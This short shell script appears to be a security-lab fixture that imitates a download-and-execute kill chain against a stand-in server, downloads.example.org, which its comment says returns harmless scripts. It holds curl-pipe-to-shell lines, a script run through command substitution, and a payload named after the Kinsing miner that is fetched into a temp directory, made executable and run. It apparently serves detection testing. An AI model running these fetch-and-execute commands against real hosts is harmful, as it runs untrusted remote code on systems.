#!/bin/sh
# Kill chain, download and execute: a loader piped from curl and wget into a shell, a
# script run by substitution, a payload fetched into /tmp, made executable and run. The
# download server (downloads.example.org, in the lab's pool namespace) answers .sh paths
# with a script that only prints a line.
set -eu
mkdir -p "$LAB_TMP/kc"
sh -c 'curl -fsS http://downloads.example.org/kinsing.sh | sh'
bash -c 'bash -c "$(curl -fsS http://downloads.example.org/x.sh)"'
curl -fsS -o "$LAB_TMP/kc/kinsing" http://downloads.example.org/kinsing.sh
chmod +x "$LAB_TMP/kc/kinsing"
"$LAB_TMP/kc/kinsing"
